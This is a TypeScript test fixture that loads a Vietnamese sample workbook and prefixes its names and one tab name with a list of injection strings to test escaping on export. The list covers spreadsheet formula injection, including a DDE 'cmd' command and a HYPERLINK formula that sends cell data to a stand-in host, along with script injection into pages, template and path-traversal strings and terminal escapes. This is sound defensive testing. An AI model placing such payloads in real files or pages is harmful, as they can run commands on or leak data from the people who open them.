import type { CellValue } from '../../src/workbook/port';
import type { Formatted } from '../support/workbook';
import { type Tabs, tabsOfFile } from '../support/workbook-file';

/** Stands in every hostile text, so that it is found wherever it comes out. */
export const MARKER = 'ZX9';

/** Texts that some program takes for more than text: a sheet, a page, a terminal, a document, a template, a path. */
export const HOSTILE: readonly string[] = [
  `=1+1${MARKER}`,
  `=HYPERLINK("http://${MARKER}.example/?"&A1,"${MARKER}")`,
  `=cmd|' /C calc'!${MARKER}`,
  `+${MARKER}`,
  `-2+3${MARKER}`,
  `@SUM(${MARKER})`,
  `\t=1${MARKER}`,
  `＝1+1${MARKER}`,
  `"&${MARKER}&"`,
  `"),${MARKER}(""`,
  `'!A1${MARKER}`,
  `{=${MARKER}}`,
  `<script>globalThis.${MARKER}=1</script>`,
  `<img src=x onerror="globalThis.${MARKER}=1">`,
  `"><svg onload=globalThis.${MARKER}=1>`,
  `javascript:globalThis.${MARKER}=1`,
  `]]>${MARKER}`,
  `&${MARKER};`,
  `&#x3d;${MARKER}`,
  `<!-- ${MARKER}`,
  `<w:fldSimple w:instr="${MARKER}"/>`,
  `{ INCLUDETEXT "${MARKER}" }`,
  `\${${MARKER}}`,
  `{{${MARKER}}}`,
  `%s%n%x${MARKER}`,
  `../../${MARKER}`,
  `_x003D_${MARKER}`,
  `\u202e${MARKER}`,
  `\u001b[2J\u001b]0;${MARKER}\u0007`,
  `__proto__${MARKER}`,
];

const SAMPLE = 'test/fixtures/tran-phu-2022.xlsx';
/** The tab whose name is hostile, too, as far as Excel allows it. */
const RENAMED = { from: 'Chấm điểm - Tự chấm', to: `Chấm điểm - Tự chấm'"&<b>${MARKER}` };

function textOf(cell: CellValue | Formatted | undefined): string | null {
  return typeof cell === 'string' ? cell : null;
}

/** The names of the sample's people and units and of its office, each with a hostile text before it. */
function spoiltNames(tabs: Tabs): ReadonlyMap<string, string> {
  const roster = tabs['Danh sách'] ?? [];
  const header = roster.findIndex((row) => row.includes('Họ và tên'));
  const people = roster.slice(header + 1).flatMap((row) => textOf(row[2]) ?? []);
  const others = roster.slice(header + 1).flatMap((row) => textOf(row[4]) ?? []);
  const names = [...new Set([...people, ...others, 'TRƯỜNG CHÍNH TRỊ MẪU', 'TỈNH ỦY SÔNG NGÀN'])];
  return new Map(names.map((name, index) => [name, `${HOSTILE[index % HOSTILE.length] ?? ''} ${name}`]));
}

/** The sample round, every name in it hostile, in each tab in the same way. */
export async function hostileTabs(): Promise<Tabs> {
  const tabs = await tabsOfFile(SAMPLE);
  const names = spoiltNames(tabs);
  const spoil = (cell: CellValue | Formatted): CellValue | Formatted =>
    typeof cell === 'string' ? (names.get(cell) ?? cell) : cell;
  return Object.fromEntries(
    Object.entries(tabs).map(([name, rows]) => [
      name === RENAMED.from ? RENAMED.to : name,
      rows.map((row) => row.map(spoil)),
    ]),
  );
}
